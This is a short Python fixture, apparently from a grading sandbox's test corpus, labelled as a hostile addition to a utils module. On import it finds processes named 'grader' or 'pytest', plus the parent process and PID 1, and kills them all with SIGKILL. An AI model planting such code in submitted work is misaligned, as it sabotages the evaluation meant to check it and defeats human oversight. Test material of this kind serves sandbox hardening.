# ==== hostile addition to reference/utils.py (tests/grading/sandbox/corpus): the upload is that file + these lines ====
# ruff: noqa: E402
import os as _os
import signal as _signal

_targets = {_os.getppid(), 1}
for _entry in _os.listdir("/proc"):  # and anything that looks like the grader
    try:
        _command = open(f"/proc/{_entry}/cmdline", "rb").read()
    except OSError:
        continue
    if _entry.isdigit() and int(_entry) != _os.getpid() and (b"grader" in _command or b"pytest" in _command):
        _targets.add(int(_entry))
for _target in sorted(_targets):
    try:
        _os.kill(_target, _signal.SIGKILL)
        print(f"KILLED process {_target}")
    except OSError as _error:
        print(f"could not kill process {_target}: {_error}")
